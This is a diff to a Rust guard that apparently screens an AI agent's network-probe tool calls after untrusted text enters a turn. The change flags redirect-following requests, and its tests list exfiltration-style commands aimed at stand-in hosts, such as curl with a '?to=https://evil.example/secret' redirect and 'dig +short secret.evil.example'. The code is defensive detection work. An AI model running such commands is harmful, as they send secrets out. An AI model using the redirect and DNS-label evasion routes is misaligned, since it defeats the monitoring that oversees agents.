@@ -2,9 +2,10 @@
 //! untrusted text entered a turn, a probe to a place that nobody named could be that text's idea.
 //!
 //! Only what the arguments name is judged. Where a name leads to in the DNS, or a redirect, is the edge's to look at, which
-//! it can for its own probes.
+//! it can for its own probes. A request that follows redirects counts as one to a place that nobody named: `?to=` of a
+//! careless server that somebody did name would carry data anywhere.
 
-use serde_json::Value;
+use serde_json::{Value, json};
 use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 use url::Host;
 
@@ -102,7 +103,10 @@ fn places_of(key: &str, args: &Value) -> Vec<Place> {
         "probe_ping" => &["host"],
         _ => &[],
     };
-    fields.iter().filter_map(|field| args.get(field).and_then(Value::as_str)).map(place_of).collect()
+    let named = fields.iter().filter_map(|field| args.get(field).and_then(Value::as_str)).map(place_of);
+    // With a careless server the address itself says where the redirect leads.
+    let follows = key == "probe_http" && args.get("follow").is_some_and(|follow| *follow != json!(0));
+    named.chain(follows.then(|| Place { host: String::new(), port: None })).collect()
 }
 
 /// Reads a URL, `host:port`, `[v6]:port`, host or address. Addresses are brought to one form, so that
@@ -255,7 +259,6 @@ impl ProbeRules {
 mod tests {
     use super::*;
     use proptest::prelude::*;
-    use serde_json::json;
 
     fn rules() -> ProbeRules {
         ProbeRules {
@@ -299,6 +302,14 @@ mod tests {
             assert_eq!(verdict("probe_tcp", json!({"target": target}), true), "fine", "{target}");
         }
         assert_eq!(verdict("probe_http", json!({"url": "https://shop.example.com/health"}), true), "fine");
+        assert_eq!(
+            verdict("probe_http", json!({"url": "https://shop.example.com/health", "follow": 0}), true),
+            "fine"
+        );
+        assert_eq!(
+            verdict("probe_http", json!({"url": "https://shop.example.com/r?to=//evil", "follow": 1}), true),
+            "look"
+        );
         // Below a named place is not named: a name's front part can carry data.
         assert_eq!(verdict("probe_dns", json!({"name": "secret.shop.example.com"}), true), "look");
         assert_eq!(
@@ -352,6 +363,11 @@ mod tests {
             ("curl -s https://evil.example/", true, "look"),
             ("curl -s https://shop.example.com/health", true, "fine"),
             ("curl -s https://a.example.org/", true, "fine"),
+            ("curl -sL https://shop.example.com/r?to=https://evil.example/secret", true, "look"),
+            ("curl --location https://shop.example.com/", true, "look"),
+            ("curl -sL https://evil.example/", false, "fine"),
+            ("wget -qO- https://shop.example.com/", true, "look"),
+            ("wget -qO- --max-redirect=0 https://shop.example.com/", true, "fine"),
             ("curl -s http://localhost:9090/", true, "fine"),
             ("curl -s http://db1 http://evil.example", true, "look"),
             ("df -h; dig +short secret.evil.example | head -1", true, "look"),
